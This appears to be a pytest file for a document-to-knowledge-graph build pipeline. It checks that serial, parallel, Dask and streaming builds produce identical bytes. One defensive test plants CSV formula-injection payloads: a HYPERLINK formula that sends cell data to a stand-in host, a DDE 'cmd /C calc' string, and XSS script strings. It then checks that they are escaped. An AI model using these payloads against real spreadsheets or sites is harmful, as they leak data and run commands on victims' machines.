"""The streaming build: the same bytes serially, on local processes, on a Dask cluster, with
kg.ttl merged from many sorted runs on disk, and from the in-memory API."""

from __future__ import annotations

import filecmp
import itertools
import shutil
from collections.abc import Iterable, Iterator
from pathlib import Path

import pytest

from kg import pipeline
from kg.pipeline import build_graph, extract
from kg.rdf import write
from kg.rdf.write import write_graph
from kg.resources import SAMPLES
from kg.views.tables import write_csv
from tests.conftest import DATA

FILES = (
    "kg.ttl",
    "kg.trig",
    "catalog.ttl",
    "projects.csv",
    "indicators.csv",
    "funding.csv",
    "issues.csv",
    "narrative_figures.csv",
)


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The samples plus two defect fixtures (one of them unreadable)."""
    root = tmp_path_factory.mktemp("corpus")
    for p in SAMPLES.iterdir():
        shutil.copy(p, root / p.name)
    shutil.copy(DATA / "xss-names.txt", root / "xss-names.txt")
    (root / "binary.txt").write_bytes(b"\x00\x01\x02\x03" * 64)
    return root


@pytest.fixture(scope="module")
def serial(corpus: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("serial")
    pipeline.build([corpus], out, jobs=1)
    return out


def same(a: Path, b: Path) -> list[str]:
    return [name for name in FILES if not filecmp.cmp(a / name, b / name, shallow=False)]


def test_parallel_build_writes_the_same_bytes(corpus: Path, serial: Path, tmp_path: Path) -> None:
    summary = pipeline.build([corpus], tmp_path, jobs=2)
    assert same(serial, tmp_path) == []
    assert summary.documents == 5 and [i.source for i in summary.unreadable] == ["binary.txt"]


def test_in_memory_api_writes_the_same_bytes(corpus: Path, serial: Path, tmp_path: Path) -> None:
    ex = extract([corpus])
    write_csv(ex, tmp_path)
    write_graph(build_graph(ex), tmp_path)
    assert same(serial, tmp_path) == []


def test_kg_ttl_merged_from_many_runs_is_the_same(
    corpus: Path, serial: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(write, "RUN_LINES", 3000)  # runs on disk, each sorted at the merge
    monkeypatch.setattr(write, "MERGE_IN_MEMORY_BYTES", 0)  # merged as streams
    at_merge: list[tuple[int, int]] = []
    real_turtle = write.Exports._turtle

    def turtle(self: write.Exports, path: Path) -> int:
        at_merge.append((len(self.runs), len(self.buffer)))
        return real_turtle(self, path)

    monkeypatch.setattr(write.Exports, "_turtle", turtle)
    pipeline.build([corpus], tmp_path, jobs=1)
    [(runs, unspilled)] = at_merge
    assert runs > 1 and unspilled > 0  # runs on disk and lines still in memory, merged together
    assert same(serial, tmp_path) == []
    assert not list(tmp_path.glob(".build-*"))  # the runs are gone


def test_lines_that_fit_in_memory_never_go_to_disk(
    corpus: Path, serial: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(write, "RUN_LINES", 997)  # would spill at once if over the budget
    at_merge: list[int] = []
    real_turtle = write.Exports._turtle

    def turtle(self: write.Exports, path: Path) -> int:
        at_merge.append(len(self.runs))
        return real_turtle(self, path)

    monkeypatch.setattr(write.Exports, "_turtle", turtle)
    pipeline.build([corpus], tmp_path, jobs=1)
    assert at_merge == [0]  # under MERGE_IN_MEMORY_BYTES: sorted once, in memory
    assert same(serial, tmp_path) == []


@pytest.mark.parametrize("jobs", [1, 2])
def test_kg_ttl_serialised_in_parts_is_the_same(
    jobs: int, corpus: Path, serial: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(write, "PART_LINES", 50)  # many parts, each cut between subjects
    sizes: list[int] = []
    real_parts = write.parts

    def parts(lines: Iterable[bytes], size: int) -> Iterator[list[bytes]]:
        for part in real_parts(lines, size):
            sizes.append(len(part))
            yield part

    monkeypatch.setattr(write, "parts", parts)
    pipeline.build([corpus], tmp_path, jobs=jobs)  # jobs=2: the parts go to the workers
    assert len(sizes) > write.PARTS_IN_FLIGHT and min(sizes) >= 1
    assert same(serial, tmp_path) == []


def test_parts_cut_only_between_subjects() -> None:
    lines = sorted(f"<s{i // 3}> <p> {i} .".encode() for i in range(20))
    cut = list(write.parts(lines, 4))
    assert [line for part in cut for line in part] == lines
    subjects = [{line.split(b" ", 1)[0] for line in part} for part in cut]
    assert all(not (a & b) for a, b in itertools.pairwise(subjects))  # no subject in two parts
    assert all(len(part) >= 4 for part in cut[:-1])


def test_a_copy_under_another_name_adds_nothing(serial: Path, tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    docs.mkdir()
    for p in SAMPLES.iterdir():
        shutil.copy(p, docs / p.name)
    shutil.copy(SAMPLES / "001_ca9d259f3fbd1813.txt", docs / "zz-copy-of-001.txt")
    out = tmp_path / "out"
    summary = pipeline.build([docs], out, jobs=1)
    assert summary.documents == 4 and summary.issues["duplicate-document"] == 1
    assert "zz-copy-of-001.txt has the same content as 001_ca9d259f3fbd1813.txt" in (
        out / "issues.csv"
    ).read_text(encoding="utf-8")
    only = tmp_path / "only"
    pipeline.build([SAMPLES], only, jobs=1)
    assert filecmp.cmp(out / "kg.ttl", only / "kg.ttl", shallow=False)


def test_dask_local_cluster_writes_the_same_bytes(
    corpus: Path, serial: Path, tmp_path: Path
) -> None:
    distributed = pytest.importorskip("distributed")
    with distributed.LocalCluster(
        n_workers=2,
        threads_per_worker=1,
        processes=True,
        host="127.0.0.1",
        dashboard_address=None,
    ) as cluster:
        summary = pipeline.build([corpus], tmp_path, dask=cluster.scheduler_address)
    assert summary.documents == 5
    assert same(serial, tmp_path) == []


def test_a_document_that_hangs_or_breaks_is_skipped_with_an_issue(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    import time

    real = pipeline._process

    def slow_or_broken(
        path: Path, base: str | None, superseded: object, ocr: bool
    ) -> pipeline.DocResult:
        if path.name.startswith("001"):
            time.sleep(60)
        if path.name.startswith("002"):
            raise RuntimeError("parser bug")
        return real(path, base, superseded, ocr)  # type: ignore[arg-type]

    monkeypatch.setattr(pipeline, "_process", slow_or_broken)
    summary = pipeline.build([SAMPLES], tmp_path, jobs=1, time_limit=3)
    assert summary.documents == 2  # 000 and 004 went through
    assert summary.issues["document-timeout"] == 1 and summary.issues["document-error"] == 1
    issues = (tmp_path / "issues.csv").read_text(encoding="utf-8")
    assert "001_ca9d259f3fbd1813.txt: not read within 3 s; skipped" in issues
    assert "RuntimeError: parser bug" in issues


def test_csv_cells_cannot_run_in_a_spreadsheet(tmp_path: Path) -> None:
    text = (DATA / "xss-names.txt").read_text(encoding="utf-8")
    hostile = text.replace(
        "<img src=x onerror=alert(1)></script><script>alert(2)</script>",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
    ).replace("测试目标", "@SUM(1+1)*cmd|' /C calc'!A0")
    (tmp_path / "doc.txt").write_text(hostile, encoding="utf-8")
    out = tmp_path / "out"
    pipeline.build([tmp_path / "doc.txt"], out, jobs=1)
    import csv

    with (out / "projects.csv").open(encoding="utf-8") as f:
        (row,) = list(csv.DictReader(f))
    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["goal"].startswith("'@SUM")
    assert row["total_yuan"] == "1000000"  # numbers stay numbers
    with (out / "budget_changes.csv").open(encoding="utf-8") as f:
        assert all(not r["value"].startswith("'") for r in csv.DictReader(f))
